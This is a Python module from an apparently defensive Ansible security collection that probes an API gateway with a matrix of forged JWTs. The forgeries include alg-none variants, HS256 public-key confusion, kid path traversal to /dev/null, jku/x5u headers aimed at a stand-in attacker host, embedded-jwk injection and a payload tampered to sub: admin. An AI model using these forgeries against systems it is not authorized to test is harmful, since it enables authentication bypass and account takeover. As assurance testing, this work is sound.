# -*- coding: utf-8 -*-
# Copyright: ainative.security contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The JWT attack matrix of ``api_jwt_probe``: build each attack token, send it, classify the answer.

Every case says what a correct gateway does (``accept`` the valid token, ``reject`` everything else),
what the gateway did (the HTTP status), and whether that was right. Coverage counts cases: asked is
every case requested (a required case that cannot be built is a miss, with the reason), examined is
every case sent and answered; a request that got no answer is a miss. Tokens exist only in memory
while a request is sent; nothing here returns, logs or puts a token or key into a finding.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import json
import re
import ssl
import time
import uuid

from ansible.module_utils.six.moves.urllib.error import HTTPError, URLError
from ansible.module_utils.six.moves.urllib.parse import urlsplit, urlunsplit, urlencode
from ansible.module_utils.urls import Request, SSLValidationError

from ansible_collections.ainative.security.plugins.module_utils.core.coverage import Coverage
from ansible_collections.ainative.security.plugins.module_utils.core.errors import InputError, SourceError
from ansible_collections.ainative.security.plugins.module_utils.core.fileio import read_regular_file
from ansible_collections.ainative.security.plugins.module_utils.core.findings import make_finding
from ansible_collections.ainative.security.plugins.module_utils.core.module import Outcome
from ansible_collections.ainative.security.plugins.module_utils.jwt_assurance import forge, tokens

CONTROL = "api_jwt_probe"
RFC8725 = "https://www.rfc-editor.org/rfc/rfc8725"
KEY_FILE_LIMIT = 1024 * 1024

# name, expected, severity, needs, description
#   needs: "any" (a token or a signing key), "mint" (a signing key), "public" (an asymmetric public key)
CASES = (
    ("no_token", "reject", "CRITICAL", "any", "request without any token"),
    ("malformed", "reject", "HIGH", "any", "a bearer value that is not a JWT"),
    ("valid", "accept", "HIGH", "any", "a valid token (right key, issuer, audience, times)"),
    ("expired", "reject", "HIGH", "mint", "exp one hour in the past"),
    ("nbf_future", "reject", "MEDIUM", "mint", "nbf one hour in the future (not yet valid)"),
    ("iat_future", "reject", "MEDIUM", "mint", "iat one hour in the future (issued later than now)"),
    ("no_exp", "reject", "HIGH", "mint", "no exp claim (a token that never expires)"),
    ("lifetime_too_long", "reject", "MEDIUM", "mint", "exp - iat one hour over max_token_lifetime"),
    ("wrong_audience", "reject", "HIGH", "mint", "aud for another service"),
    ("audience_substring", "reject", "HIGH", "mint", "aud that only starts with or contains the audience"),
    ("wrong_issuer", "reject", "HIGH", "mint", "iss of another identity provider"),
    ("issuer_prefix", "reject", "HIGH", "mint", "iss that only starts with the issuer"),
    ("bad_signature", "reject", "CRITICAL", "any", "signed with another key under the same kid"),
    ("tampered_payload", "reject", "CRITICAL", "any", "claims changed (sub: admin) after signing"),
    ("alg_none", "reject", "CRITICAL", "any", "alg none with an empty signature"),
    ("alg_none_title", "reject", "CRITICAL", "any", "alg None with an empty signature"),
    ("alg_none_upper", "reject", "CRITICAL", "any", "alg NONE with an empty signature"),
    ("alg_none_mixed", "reject", "CRITICAL", "any", "alg nOnE with an empty signature"),
    ("hs256_public_key", "reject", "CRITICAL", "public", "HS256 with the RSA/EC public key as HMAC secret (key confusion)"),
    ("hs256_public_key_no_newline", "reject", "CRITICAL", "public",
     "HS256 with the public key PEM without its trailing newline as HMAC secret"),
    ("hs256_public_key_der", "reject", "CRITICAL", "public", "HS256 with the public key DER as HMAC secret"),
    ("unknown_kid", "reject", "MEDIUM", "mint", "right key, kid the gateway does not know"),
    ("kid_injection", "reject", "CRITICAL", "any", "kid ../../dev/null path traversal, HS256 with an empty secret"),
    ("jku_injection", "reject", "CRITICAL", "any", "jku header pointing at an attacker JWKS, signed with the attacker key"),
    ("x5u_injection", "reject", "CRITICAL", "any", "x5u header pointing at an attacker certificate, signed with its key"),
    ("jwk_injection", "reject", "CRITICAL", "any", "embedded jwk header with the attacker public key (CVE-2018-0114)"),
    ("token_in_query", "reject", "MEDIUM", "any",
     "a throwaway, already expired token in the query string: the gateway must answer as for no token (RFC 6750 5.3)"),
)
CASE_NAMES = tuple(c[0] for c in CASES)
CASE_INFO = dict((c[0], c[1:]) for c in CASES)
# Not required when the gateway verifies with one pinned key and ignores kid (that is not a hole).
PINNED_KEY_NOT_REQUIRED = ("unknown_kid",)
ALG_NONE_SPELLINGS = {"alg_none": "none", "alg_none_title": "None", "alg_none_upper": "NONE", "alg_none_mixed": "nOnE"}
# Severity of a failed case that is not required: reported, below every gate but fail_on INFO.
NOT_REQUIRED_SEVERITY = "INFO"
DEFAULT_MAX_LIFETIME = 86400


def default_required(pinned_key=False):
    return tuple(n for n in CASE_NAMES if not (pinned_key and n in PINNED_KEY_NOT_REQUIRED))


class SkipCase(Exception):
    """A case that cannot be built from what the task gave (no signing key, no public key)."""


def classify(status, reject_status):
    if 200 <= status < 300:
        return "accepted"
    if status in reject_status:
        return "rejected"
    return "unexpected"


class Probe(object):
    """One endpoint, one attack matrix: :meth:`build` a case's token, :meth:`send` it."""

    def __init__(self, url, method="GET", headers=None, body=None, issuer=None, audience=None,
                 subject="ainative-probe", signing_key=None, algorithm="RS256", kid=None, token=None,
                 public_key=None, token_lifetime=300, extra_claims=None, reject_status=(400, 401, 403),
                 query_param="access_token", token_header="Authorization", token_scheme="Bearer",
                 validate_certs=True, ca_path=None, timeout=10,
                 injection_url="https://attacker.invalid/jwks.json", injection_x5u_url=None,
                 injection_key=None, injection_kid=None, max_token_lifetime=DEFAULT_MAX_LIFETIME):
        self.url = url
        self.method = method.upper()
        self.headers = dict(headers or {})
        self.body = body
        self.issuer = issuer
        self.audience = audience
        self.subject = subject
        self.algorithm = algorithm
        self.token = token
        self.lifetime = token_lifetime
        self.max_lifetime = max_token_lifetime
        self.extra_claims = dict(extra_claims or {})
        self.reject_status = tuple(reject_status)
        self.query_param = query_param
        self.token_header = token_header
        self.token_scheme = token_scheme
        self.validate_certs = validate_certs
        self.ca_path = ca_path
        self.timeout = timeout
        self.injection_url = injection_url
        self.injection_x5u_url = injection_x5u_url or _sibling(injection_url, "cert.pem")
        self.target = "%s %s" % (self.method, _without_query(url))
        self._setup_keys(signing_key, kid, public_key, injection_key, injection_kid)

    # -- keys and tokens ------------------------------------------------------------------------
    def _setup_keys(self, signing_key, kid, public_key, injection_key, injection_kid):
        self.key = None
        if signing_key is not None:
            self.key = tokens.load_key(signing_key, kid=kid, secret=self.algorithm in tokens.HMAC_ALGORITHMS)
            if self.key.kty != "oct" and not self.key.private:
                raise InputError("signing_key is a public key or certificate; the probe mints tokens and needs "
                                 "the private key (or give a valid token instead)")
            if self.algorithm not in self.key.algorithms():
                raise InputError("algorithm %s does not fit the %s signing key; use one of %s"
                                 % (self.algorithm, self.key.kty, ", ".join(self.key.algorithms())))
            if kid:
                self.key.kid = kid
        self.public = None
        if public_key:
            self.public = tokens.load_key(public_key).public()
        elif self.key is not None and self.key.kty != "oct":
            self.public = self.key.public()
        if self.token is not None:
            self._check_given_token()
        template = self.key if (self.key is not None and self.key.kty != "oct") else None
        if injection_key:
            self.attacker = tokens.load_key(injection_key)
            if not self.attacker.private:
                raise InputError("injection_key must be a private key (the probe signs with it)")
        else:
            self.attacker = tokens.generate_key(template)
            self.attacker.kid = None
        self.attacker.kid = injection_kid or self.attacker.kid or "ainative-probe-attacker"

    def _check_given_token(self):
        """The given token is the baseline: it must be signed, and verify against public_key when given."""
        alg = tokens.decode(self.token)["header"].get("alg")
        if not isinstance(alg, str) or alg.lower() == "none":
            raise InputError("the given token is unsigned; give a token signed by the identity provider")
        if self.public is not None:
            checked = tokens.verify(self.token, [self.public], issuer=self.issuer, audience=self.audience, require=())
            if not checked["valid"]:
                raise InputError("the given token does not verify against public_key (%s); give a valid token "
                                 "the identity provider signed with that key" % checked["reason"])

    def _claims(self, **changes):
        now = _now()
        claims = {"iss": self.issuer, "aud": self.audience, "sub": self.subject, "iat": now,
                  "exp": now + self.lifetime, "jti": str(uuid.uuid4())}
        claims.update(self.extra_claims)
        for name, value in changes.items():
            if value is None:
                claims.pop(name, None)
            else:
                claims[name] = value
        return claims

    def _mint(self, headers=None, **changes):
        return tokens.encode(self._claims(**changes), self.key, self.algorithm, headers=headers)

    def _valid_token(self):
        return self._mint() if self.key is not None else tokens.split_token(self.token)

    def _attacker_alg(self):
        if self.attacker.kty == "EC":
            return tokens.EC_ALGORITHM_OF_CURVE[self.attacker.curve]
        return {"RSA": "RS256", "OKP": "EdDSA", "oct": "HS256"}[self.attacker.kty]

    def build(self, name):
        """(token or None, "header" or "query") for one case, or raise SkipCase."""
        needs = CASE_INFO[name][2]
        if needs == "mint" and self.key is None:
            raise SkipCase("needs signing_key to mint tokens with chosen claims")
        if needs == "public" and self.public is None:
            raise SkipCase("needs the gateway's public key (public_key) or an asymmetric signing_key")
        if name == "no_token":
            return None, "header"
        if name == "malformed":
            return "ainative-probe.not-a-jwt", "header"
        if name == "valid":
            return self._valid_token(), "header"
        now = _now()
        minted = {
            "expired": lambda: self._mint(iat=now - 7200, exp=now - 3600),
            "nbf_future": lambda: self._mint(nbf=now + 3600, exp=now + 3600 + self.lifetime),
            "iat_future": lambda: self._mint(iat=now + 3600, exp=now + 3600 + self.lifetime),
            "no_exp": lambda: self._mint(exp=None),
            "lifetime_too_long": lambda: self._mint(iat=now, exp=now + self.max_lifetime + 3600),
            "wrong_audience": lambda: self._mint(aud="ainative-probe-wrong-audience"),
            "audience_substring": lambda: self._mint(aud="%s.ainative-probe.invalid" % self.audience),
            "wrong_issuer": lambda: self._mint(iss="https://wrong-issuer.ainative-probe.invalid"),
            "issuer_prefix": lambda: self._mint(iss="%s.ainative-probe.invalid" % self.issuer),
            "unknown_kid": lambda: self._mint(headers={"kid": "ainative-probe-unknown-kid"}),
        }
        if name in minted:
            return minted[name](), "header"
        valid = self._valid_token()
        decoded = tokens.decode(valid)
        header, claims = decoded["header"], decoded["claims"]
        if name == "token_in_query":
            return self._throwaway_token(valid, claims, now), "query"
        if name == "bad_signature":
            if self.key is not None:
                other = tokens.generate_key(self.key)
                return tokens.encode(claims, other, self.algorithm, headers=header), "header"
            corrupted = forge.corrupt_signature(valid)
            if corrupted is None:
                raise SkipCase("the given token has no signature to corrupt")
            return corrupted, "header"
        if name == "tampered_payload":
            return forge.swap_payload(valid, dict(claims, sub="admin", role="admin")), "header"
        if name in ALG_NONE_SPELLINGS:
            return forge.unsigned(dict(header, alg=ALG_NONE_SPELLINGS[name]), claims), "header"
        if name.startswith("hs256_public_key"):
            pem = self.public.public_pem()
            secret = {"hs256_public_key": pem, "hs256_public_key_no_newline": pem.rstrip(b"\n"),
                      "hs256_public_key_der": self.public.public_der()}[name]
            return forge.hmac_signed(dict(header, alg="HS256"), claims, secret), "header"
        if name == "kid_injection":
            return forge.hmac_signed(dict(header, alg="HS256", kid="../../../../../../../../dev/null"), claims,
                                     b""), "header"
        injected = {"jku_injection": {"jku": self.injection_url}, "x5u_injection": {"x5u": self.injection_x5u_url},
                    "jwk_injection": {"jwk": self.attacker.public_jwk()}}[name]
        injected["kid"] = self.attacker.kid
        return tokens.encode(claims, self.attacker, self._attacker_alg(), headers=injected), "header"

    def _throwaway_token(self, valid, claims, now):
        """An already expired token with its own jti: what lands in a URL (and access logs) is worthless.

        With a signing key it is minted; with only a given token, its claims are changed after signing,
        so the signature no longer holds either. The user's valid token never goes into a URL.
        """
        expired = dict(claims, iat=now - 7200, exp=now - 3600, jti=str(uuid.uuid4()), sub="ainative-probe-query")
        expired.pop("nbf", None)
        if self.key is not None:
            return tokens.encode(expired, self.key, self.algorithm)
        return forge.swap_payload(valid, expired)

    # -- HTTP -----------------------------------------------------------------------------------
    def send(self, token, where):
        """(HTTP status, WWW-Authenticate) of one request; SourceError when no answer came."""
        url = self.url
        headers = dict(self.headers)
        if token is not None and where == "header":
            headers[self.token_header] = ("%s %s" % (self.token_scheme, token)) if self.token_scheme else token
        elif token is not None:
            scheme, netloc, path, query, fragment = urlsplit(url)
            extra = urlencode({self.query_param: token})
            url = urlunsplit((scheme, netloc, path, (query + "&" + extra) if query else extra, fragment))
        data = self.body
        if isinstance(data, (dict, list)):
            data = json.dumps(data)
            headers.setdefault("Content-Type", "application/json")
        request = Request(validate_certs=self.validate_certs, ca_path=self.ca_path, timeout=self.timeout,
                          follow_redirects="none", use_proxy=True)
        tls_hint = "; give ca_path with the CA that signed it (validate_certs=false only for throw-away labs)"
        try:
            response = request.open(self.method, url, data=data, headers=headers)
            status = response.getcode()
            www = response.headers.get("WWW-Authenticate")
            response.read()
            response.close()
        except HTTPError as exc:
            status = exc.code
            www = exc.headers.get("WWW-Authenticate") if exc.headers else None
            exc.close()
        except SSLValidationError as exc:
            raise SourceError("TLS certificate of %s not trusted: %s%s" % (self.target, tokens.first_line(exc), tls_hint))
        except (URLError, OSError, ValueError) as exc:
            reason = getattr(exc, "reason", exc)
            if isinstance(reason, ssl.SSLError) and "CERTIFICATE_VERIFY_FAILED" in str(reason):
                raise SourceError("TLS certificate of %s not trusted: %s%s" % (
                    self.target, getattr(reason, "verify_message", None) or tokens.first_line(reason), tls_hint))
            raise SourceError("cannot reach %s: %s; check url, that the gateway runs and listens there, and "
                              "network or proxy settings" % (self.target, tokens.first_line(reason)))
        return status, (www or "")[:200] or None

    # -- the matrix -----------------------------------------------------------------------------
    def run(self, cases, required):
        """(case results, Coverage, notes, first connection error) for ``cases`` in matrix order."""
        cov = Coverage("cases", asked=len(cases))
        notes = []
        results = []
        answers = {}
        unreachable = None
        for name in (n for n in CASE_NAMES if n in cases):
            expected, _severity, _needs, description = CASE_INFO[name]
            case = {"name": name, "description": description, "expected": expected,
                    "expected_status": "2xx" if expected == "accept" else _status_range(self.reject_status),
                    "required": name in required, "status": None, "actual": None, "outcome": None,
                    "www_authenticate": None, "reason": None}
            results.append(case)
            if unreachable:
                case.update(outcome="error", reason="not sent: %s" % unreachable)
                cov.miss(name, case["reason"])
                continue
            try:
                token, where = self.build(name)
            except SkipCase as exc:
                case.update(outcome="skipped", reason=str(exc))
                if case["required"]:
                    cov.miss(name, "required case not run: %s" % exc)
                else:
                    cov.asked -= 1
                    notes.append("case %s not run (not required): %s" % (name, exc))
                continue
            try:
                answers[name] = self.send(token, where)
                if name == "token_in_query" and "no_token" not in answers:
                    answers["no_token"] = self.send(None, "header")
            except SourceError as exc:
                case.update(outcome="error", reason=exc.msg)
                cov.miss(name, exc.msg)
                if not cov.examined:
                    unreachable = exc.msg
                continue
            finally:
                token = None
            cov.add()
            status, www = answers[name]
            actual = classify(status, self.reject_status)
            ok = (actual == "accepted") if expected == "accept" else (actual == "rejected")
            case.update(status=status, actual=actual, outcome="pass" if ok else "fail", www_authenticate=www)
            if not ok:
                case["reason"] = _why(expected, actual, status)
            elif name == "token_in_query" and _answer_key(answers[name]) != _answer_key(answers["no_token"]):
                # Refused, but not like a request without token: the gateway read the (expired) token.
                got, without = _answer_key(answers[name]), _answer_key(answers["no_token"])
                case.update(outcome="fail", reason="answered %s %s, not %s %s as without a token: the gateway "
                                                   "reads tokens from the query string"
                                                   % (got[0], got[1], without[0], without[1]))
        return results, cov, notes, unreachable

    def findings(self, results):
        findings = []
        for case in results:
            if case["outcome"] != "fail":
                continue
            severity = CASE_INFO[case["name"]][1]
            if case["actual"] == "unexpected":
                severity = "MEDIUM"
            findings.append(make_finding(
                CONTROL, "authentication", "jwt_%s" % case["name"],
                severity if case["required"] else NOT_REQUIRED_SEVERITY,
                "%s: %s -> %s (must be %sed)" % (self.target, case["description"], case["status"], case["expected"]),
                target=self.target,
                location={"resource": _without_query(self.url)}, url=RFC8725,
                details={"case": case["name"], "expected": case["expected"],
                         "expected_status": case["expected_status"], "actual_status": case["status"],
                         "required": case["required"], "case_severity": severity}))
        return findings


def _now():
    return int(time.time())


def _answer_key(answer):
    """(status, RFC 6750 error code or "no error code") of an answer, what token_in_query compares."""
    status, www = answer
    match = re.search(r'error="([^"]*)"', www or "")
    return status, match.group(1) if match else "no error code"


def _status_range(statuses):
    return "|".join(str(s) for s in statuses)


def _why(expected, actual, status):
    if expected == "accept":
        return "the valid token was answered %s; every other result is inconclusive (check issuer, audience, " \
               "key and kid)" % status
    if actual == "accepted":
        return "accepted with %s; it must be rejected" % status
    return "answered %s, neither accepted nor a rejection status" % status


def _without_query(url):
    scheme, netloc, path, _query, _fragment = urlsplit(url)
    return urlunsplit((scheme, netloc, path, "", ""))


def _sibling(url, name):
    scheme, netloc, path, _query, _fragment = urlsplit(url)
    return urlunsplit((scheme, netloc, path.rsplit("/", 1)[0] + "/" + name, "", ""))


def _key_text(params, option):
    path = params.get(option + "_path")
    if path:
        return read_regular_file(path, option + "_path", limit=KEY_FILE_LIMIT).decode("utf-8", "replace")
    return params.get(option)


def run(ctl):
    """The module's run function: check the options, probe every requested case, report."""
    params = ctl.params
    if not params["url"].lower().startswith(("http://", "https://")):
        raise InputError("url must start with http:// or https://, got %r" % params["url"])
    if params["token_lifetime"] < 30:
        raise InputError("token_lifetime must be at least 30 seconds")
    if params["max_token_lifetime"] < params["token_lifetime"]:
        raise InputError("max_token_lifetime (%d) must not be shorter than token_lifetime (%d)"
                         % (params["max_token_lifetime"], params["token_lifetime"]))
    needs_crypto = params["algorithm"] not in tokens.HMAC_ALGORITHMS or params["token"] is not None
    tokens.require_libraries("api_jwt_probe", crypto=needs_crypto)
    probe = Probe(
        url=params["url"], method=params["method"], headers=params["headers"], body=params["body"],
        issuer=params["issuer"], audience=params["audience"], subject=params["subject"],
        signing_key=_key_text(params, "signing_key"), algorithm=params["algorithm"], kid=params["kid"],
        token=params["token"], public_key=params["public_key"], token_lifetime=params["token_lifetime"],
        extra_claims=params["extra_claims"], reject_status=params["reject_status"],
        query_param=params["query_param"], token_header=params["token_header"],
        token_scheme=params["token_scheme"], validate_certs=params["validate_certs"], ca_path=params["ca_path"],
        timeout=params["timeout"], injection_url=params["injection_url"],
        injection_x5u_url=params["injection_x5u_url"], injection_key=_key_text(params, "injection_key"),
        injection_kid=params["injection_kid"], max_token_lifetime=params["max_token_lifetime"])
    cases = set(params["cases"] or CASE_NAMES)
    required = set(default_required(params["pinned_key"]) if params["required_cases"] is None
                   else params["required_cases"])
    results, cov, notes, unreachable = probe.run(cases, required)
    findings = probe.findings(results)

    failed = [c["name"] for c in results if c["outcome"] == "fail"]
    failed_required = [c["name"] for c in results if c["outcome"] == "fail" and c["required"]]
    not_run_required = [c["name"] for c in results if c["outcome"] in ("skipped", "error") and c["required"]]
    valid = [c for c in results if c["name"] == "valid"]
    outcome = Outcome(
        cov, findings, notes=notes, changed=False,
        url=_without_query(probe.url), target=probe.target, cases=results,
        passed=not failed_required and not not_run_required,
        inconclusive=bool(valid and valid[0]["outcome"] == "fail"),
        failed_cases=failed, failed_required=failed_required,
        skipped_cases=[c["name"] for c in results if c["outcome"] == "skipped"],
        accepted_must_reject=[c["name"] for c in results if c["expected"] == "reject" and c["actual"] == "accepted"])
    if unreachable and not cov.examined:
        outcome.msg = unreachable
    elif failed_required:
        outcome.msg = "%s failed %d required JWT case(s): %s" % (probe.target, len(failed_required), "; ".join(
            "%s (expected %s, got %s)" % (c["name"], c["expected"], c["status"])
            for c in results if c["name"] in failed_required))
    return outcome
